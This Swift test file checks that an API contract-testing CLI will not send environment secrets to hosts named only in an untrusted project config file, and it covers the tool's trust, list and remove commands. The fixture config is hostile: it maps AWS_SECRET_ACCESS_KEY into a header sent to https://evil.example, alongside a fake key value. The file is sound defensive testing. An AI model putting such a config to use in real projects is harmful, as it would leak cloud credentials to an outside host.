import Foundation
import TestSupport
import Testing

@Suite("contract trust", .takesTurns)
struct TrustCommandTests {
  private static let contract = #"{"openapi": "3.1.0", "info": {"title": "x", "version": "1"}, "paths": {}}"#
  private static let file = """
    base-url: live
    allow-unsafe: [createPet]
    targets:
      live:
        url: https://evil.example
        header-env: {X-A: AWS_SECRET_ACCESS_KEY}
      local: http://localhost:8080
    """

  private static func project() throws -> HostileProject {
    try HostileProject(["contract.yaml": file, "Contracts/api.json": contract])
  }

  private static let environment = ["AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMIK7MDENG"]

  @Test(
    "A bare run sends nothing to a host that only the file names, and says what it would have sent",
    arguments: [["verify"], ["gate"], ["accept"], ["record", "-o", "a.har"], ["record", "--proxy", "-o", "a.har"]]
  )
  func refusal(arguments: [String]) async throws {
    let project = try Self.project()
    let words = try await project.run(arguments, Self.environment)
    #expect(words.exit == 2)
    #expect(words.output == "")
    #expect(words.error.hasPrefix("Error: contract.yaml is not trusted, and a run with it sends "))
    #expect(
      words.error.contains(
        "sends the environment variable AWS_SECRET_ACCESS_KEY as the header X-A to https://evil.example "
          + "(contract.yaml:4:3)"
      )
    )
    #expect(words.error.contains("read the file, then run contract trust; or name the API and the variables yourself"))
    #expect(!words.error.contains("wJalrXUtnFEMIK7MDENG"))
  }

  @Test("The command shows what a file requests, remembers it outside the project, lists it and forgets it")
  func trusting() async throws {
    let project = try Self.project()
    let requirements = """
      contract.yaml asks for:
        https://evil.example (target live):
          sends the environment variable AWS_SECRET_ACCESS_KEY as the header X-A (contract.yaml:4:3)
          sends unsafe requests (createPet) (contract.yaml:2:15)
        http://localhost:8080 (target local): on this machine, needs no trust

      """
    #expect(try await project.run(["trust", "--dry-run"]).output == requirements)
    #expect(try await project.run(["trust", "--list"]).output == "")
    let words = try await project.run(["trust"])
    #expect(words.exit == 0)
    #expect(
      words.output == requirements
        + "trusted: ROOT/project/contract.yaml, until it changes (contract trust --remove ends that)\n"
    )
    #expect(try project.mode("home/.local/state/contract/trusted") == 0o600)
    #expect(try await project.run(["trust", "--list"]).output == "ROOT/project/contract.yaml\n")
    #expect(try await project.run(["trust", "--remove"]).output == "no longer trusted: ROOT/project/contract.yaml\n")
    #expect(try await project.run(["trust", "--list"]).output == "")
    let again = try await project.run(["trust", "--remove"])
    #expect(again.exit == 2)
    #expect(again.error == "Error: contract.yaml is not trusted; contract trust --list shows the files\n")
  }

  @Test("A trusted file gets what it requests, and needs trust again when it has changed")
  func trusted() async throws {
    let project = try Self.project()
    _ = try await project.run(["trust"])
    // Past the question of trust, the run finds that the contract has nothing to request.
    let words = try await project.run(["verify"], Self.environment)
    #expect(!words.error.contains("trust"), "\(words.error)")
    try project.write("contract.yaml", Self.file.replacingOccurrences(of: "X-A", with: "X-B"))
    let changed = try await project.run(["verify"], Self.environment)
    #expect(changed.exit == 2)
    #expect(changed.error.hasPrefix("Error: contract.yaml has changed since you trusted it, and a run with it sends "))
  }

  @Test(
    "A run that sends nothing, or has the user's own target, needs no trust",
    arguments: [
      ["verify", "--dry-run"], ["check"], ["verify", "--help"], ["config"], ["verify", "--no-config"],
      ["verify", "http://127.0.0.1:1"], ["verify", "--base-url", "local"],
    ]
  )
  func needless(arguments: [String]) async throws {
    let words = try await Self.project().run(arguments, Self.environment)
    #expect(!words.error.contains("is not trusted"), "\(words.error)")
  }

  @Test("A file that is missing, or is not a configuration, cannot be trusted")
  func missing() async throws {
    let project = try HostileProject(["api.yaml": "openapi: 3.1.0\n", "bad.yaml": "a: [\n"])
    for arguments in [["trust"], ["trust", "--config", "api.yaml"], ["trust", "--config", "bad.yaml"]] {
      let words = try await project.run(arguments)
      #expect(words.exit == 2)
      #expect(words.error.hasPrefix("Error: "))
    }
  }
}
